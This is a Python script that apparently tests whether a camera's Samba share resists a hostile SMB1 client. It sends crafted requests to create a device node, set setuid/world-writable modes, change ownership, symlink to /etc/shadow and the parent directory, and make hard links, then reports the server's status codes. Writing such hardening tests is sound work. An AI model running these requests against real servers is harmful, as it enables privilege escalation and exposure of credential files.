"""The camera account turned hostile: SMB1 requests that try to change more than file contents.

usage: smb_attack.py HOST PORT USER PASSWORD SHARE DIR
Works inside DIR (created if missing) of the share, over SMB1 as the camera speaks it, and
prints one JSON object: for each attack, the NT status the server answered (0 = done).
The caller looks at the disk to see what really happened.

- mknod:    TRANS2_SET_PATH_INFO, SMB_SET_FILE_UNIX_BASIC of a new name, type character
            device 1:3 (/dev/null's numbers), mode 0666
- chmod:    SMB_SET_FILE_UNIX_BASIC on DIR/file, mode 07777
- chown:    SMB_SET_FILE_UNIX_BASIC on DIR, owner and group 1 (daemon)
- symlink_shadow / symlink_up: SMB_SET_FILE_UNIX_LINK, DIR/shadow -> /etc/shadow, DIR/up -> ..
- unix_hardlink: SMB_SET_FILE_UNIX_HLINK, DIR/uhl -> DIR/file
- nt_hardlink: SMB_COM_NT_RENAME with the hard-link information level, DIR/file -> DIR/nthl
"""
import io
import json
import struct
import sys
import time

from smb import smb_structs
from smb.base import _PendingRequest
from smb.SMBConnection import SMBConnection
from smb.smb_structs import ComTransaction2Request, Payload, SMBMessage

smb_structs.SUPPORT_SMB2 = False  # the camera speaks SMB1 only

TRANS2_SET_FS_INFORMATION = 0x0004
TRANS2_SET_PATH_INFORMATION = 0x0006
SMB_SET_CIFS_UNIX_INFO = 0x0200
CIFS_UNIX_POSIX_PATHNAMES_CAP = 0x10
SMB_SET_FILE_UNIX_BASIC = 0x0200
SMB_SET_FILE_UNIX_LINK = 0x0201
SMB_SET_FILE_UNIX_HLINK = 0x0203
SMB_COM_NT_RENAME = 0xA5
SMB_NT_RENAME_SET_LINK_INFO = 0x0103
NO_CHANGE32 = 0xFFFFFFFF


class NtRename(Payload):
    """SMB_COM_NT_RENAME ([MS-CIFS] 2.2.4.66), which pysmb does not have."""

    def __init__(self, old, new, level):
        self.old, self.new, self.level = old, new, level

    def initMessage(self, message):
        Payload.initMessage(self, message)
        message.command = SMB_COM_NT_RENAME

    def prepare(self, message):
        message.parameters_data = struct.pack("<HHI", 0x16, self.level, 0)
        # 32-byte header + 1 + 8 + 2: the data starts at an odd offset, so the first
        # name (after its 0x04) is aligned and the second needs one pad byte.
        message.data = (
            b"\x04" + (self.old + "\0").encode("UTF-16LE") + b"\x04\x00" + (self.new + "\0").encode("UTF-16LE")
        )

    def decode(self, message):
        pass


def send(conn, tid, payload):
    """Sends one request and waits for its answer; returns the NT status."""
    m = SMBMessage(payload)
    m.tid = tid
    answers = []
    conn._sendSMBMessage(m)
    conn.pending_requests[m.mid] = _PendingRequest(
        m.mid, time.time() + 30, lambda msg, **kw: answers.append(msg), lambda e: answers.append(e)
    )
    deadline = time.time() + 30
    while not answers:
        if time.time() > deadline:
            raise SystemExit("no answer from the server")
        conn._pollForNetBIOSPacket(30)
    return answers[0].status.internal_value


def set_path_info(conn, tid, path, level, data):
    params = struct.pack("<HI", level, 0) + (path + "\0").encode("UTF-16LE")
    # pysmb computes the data offset before its padding after the parameters: keep the
    # parameters a multiple of 4 bytes long so that there is no such padding.
    params += b"\0" * (-len(params) % 4)
    return send(
        conn,
        tid,
        ComTransaction2Request(
            max_params_count=2,
            max_data_count=0,
            max_setup_count=0,
            params_bytes=params,
            data_bytes=data,
            setup_bytes=struct.pack("<H", TRANS2_SET_PATH_INFORMATION),
        ),
    )


def posix(conn, tid):
    """Asks for POSIX path names (SMB_SET_CIFS_UNIX_INFO), which Samba wants before UNIX levels."""
    return send(
        conn,
        tid,
        ComTransaction2Request(
            max_params_count=2,
            max_data_count=0,
            max_setup_count=0,
            params_bytes=struct.pack("<HH", 0, SMB_SET_CIFS_UNIX_INFO),
            data_bytes=struct.pack("<HHQ", 1, 0, CIFS_UNIX_POSIX_PATHNAMES_CAP),
            setup_bytes=struct.pack("<H", TRANS2_SET_FS_INFORMATION),
        ),
    )


def unix_basic(kind=NO_CHANGE32, mode=NO_CHANGE32, uid=NO_CHANGE32, gid=NO_CHANGE32, major=0, minor=0):
    """SMB_SET_FILE_UNIX_BASIC's 100 bytes (CIFS UNIX extensions); times 0 = unchanged."""
    return struct.pack(
        "<IIIIQQQIIIIIQQQQQ",
        NO_CHANGE32, NO_CHANGE32,  # end of file: unchanged
        NO_CHANGE32, NO_CHANGE32,  # bytes: unchanged
        0, 0, 0,  # status change, access, modification times
        uid, 0,
        gid, 0,
        kind,
        major, minor, 0,  # device major/minor, unique id
        mode, 0,  # permissions
    )


def main():
    host, port, user, password, share, folder = sys.argv[1:7]
    conn = SMBConnection(user, password, "camera", "camvault", use_ntlm_v2=False, is_direct_tcp=True)
    assert conn.connect(host, int(port), timeout=30), "SMB1 login failed"
    try:
        conn.createDirectory(share, folder)
    except Exception:
        pass
    conn.storeFile(share, folder + "/file", io.BytesIO(b"a recording"))
    tid = conn.connected_trees[share]
    # The NT hard link first, with Windows path names; then POSIX ones (separator '/').
    d = folder.replace("/", "\\")
    results = {"nt_hardlink": send(conn, tid, NtRename(d + "\\file", d + "\\nthl", SMB_NT_RENAME_SET_LINK_INFO))}
    results["posix"] = posix(conn, tid)
    d = folder
    results |= {
        "mknod": set_path_info(conn, tid, d + "/dev", SMB_SET_FILE_UNIX_BASIC, unix_basic(kind=3, mode=0o666, major=1, minor=3)),
        "chmod": set_path_info(conn, tid, d + "/file", SMB_SET_FILE_UNIX_BASIC, unix_basic(mode=0o7777)),
        "chown": set_path_info(conn, tid, d, SMB_SET_FILE_UNIX_BASIC, unix_basic(uid=1, gid=1)),
        "symlink_shadow": set_path_info(
            conn, tid, d + "/shadow", SMB_SET_FILE_UNIX_LINK, "/etc/shadow\0".encode("UTF-16LE")
        ),
        "symlink_up": set_path_info(conn, tid, d + "/up", SMB_SET_FILE_UNIX_LINK, "..\0".encode("UTF-16LE")),
        "unix_hardlink": set_path_info(
            conn, tid, d + "/uhl", SMB_SET_FILE_UNIX_HLINK, (d + "/file\0").encode("UTF-16LE")
        ),
    }
    conn.close()
    print(json.dumps({k: "0x%08x" % v for k, v in results.items()}))


main()
